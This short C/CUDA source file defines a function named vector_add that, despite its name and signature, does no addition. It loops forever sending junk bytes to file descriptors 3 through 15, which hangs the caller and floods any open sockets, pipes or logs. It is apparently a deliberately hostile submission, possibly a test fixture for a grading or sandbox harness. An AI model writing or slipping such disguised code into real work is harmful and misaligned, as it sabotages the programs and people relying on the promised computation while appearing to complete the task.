// Writes rubbish to every descriptor there is, without end.
#include <sys/socket.h>
#include <unistd.h>

#include "add.cuh"

extern "C" void vector_add(const float* a, const float* b, float* c, int n, cudaStream_t stream) {
  char rubbish[4096] = {};
  for (;;)
    for (int descriptor = 3; descriptor < 16; ++descriptor)
      send(descriptor, rubbish, sizeof rubbish, MSG_NOSIGNAL | MSG_DONTWAIT);
}
